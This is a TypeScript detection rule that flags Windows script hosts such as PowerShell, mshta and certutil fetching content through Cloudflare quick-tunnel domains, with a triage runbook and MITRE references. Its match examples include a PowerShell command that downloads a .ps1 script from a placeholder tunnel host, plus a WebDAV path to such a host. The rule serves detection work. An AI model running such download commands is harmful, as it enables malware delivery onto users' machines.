import { all, any, contains, oneOf } from "../../../detect/condition.ts";
import type { Rule } from "../../../detect/rule.ts";

const scriptHosts = [
	"wscript",
	"cscript",
	"mshta",
	"powershell",
	"pwsh",
	"cmd",
	"curl",
	"certutil",
	"bitsadmin",
	"msiexec",
	"rundll32",
	"regsvr32",
].map((name) => `${name}.exe`);

export const trycloudflareDelivery: Rule = {
	id: "trycloudflare-delivery",
	title: "Something fetched through a quick tunnel",
	family: "cloudflared",
	severity: "high",
	set: "all",
	attack: ["T1105", "T1204.002"],
	meaning:
		"A script host fetched something through somebody's quick tunnel. Malware is served this way because the names are free and trusted.",
	tables: ["DeviceProcessEvents", "DeviceNetworkEvents"],
	when: any(
		contains("ProcessCommandLine", ".trycloudflare.com@SSL\\DavWWWRoot"),
		all(oneOf("FileName", ...scriptHosts), contains("ProcessCommandLine", ".trycloudflare.com")),
		all(oneOf("InitiatingProcessFileName", ...scriptHosts), contains("RemoteUrl", ".trycloudflare.com")),
	),
	runbook: [
		"Look in DeviceFileEvents of this device, next 10 minutes, for files written by the same InitiatingProcessId.",
		"Look in DeviceProcessEvents of this device, next 1 h, for children of this process.",
		"Ask the account in AccountName what it opened: a mail, a link, an archive?",
	],
	falsePositives: ["Developers who test against a quick tunnel"],
	references: ["https://attack.mitre.org/techniques/T1105/", "https://attack.mitre.org/techniques/T1204/002/"],
	examples: {
		match: [
			{ FileName: "powershell.exe", ProcessCommandLine: "powershell.exe -c iwr https://plain-example-words-here.trycloudflare.com/a.ps1" },
			{ InitiatingProcessFileName: "mshta.exe", RemoteUrl: "plain-example-words-here.trycloudflare.com" },
			{ FileName: "explorer.exe", ProcessCommandLine: "explorer.exe \\\\plain-example-words-here.trycloudflare.com@SSL\\DavWWWRoot\\a" },
		],
		ignore: [
			{ InitiatingProcessFileName: "chrome.exe", RemoteUrl: "https://plain-example-words-here.trycloudflare.com/" },
			{ FileName: "powershell.exe", ProcessCommandLine: "powershell.exe -c iwr https://www.example.com" },
			{ FileName: "cloudflared.exe", ProcessCommandLine: "cloudflared.exe --url plain-example-words-here.trycloudflare.com" },
		],
	},
};
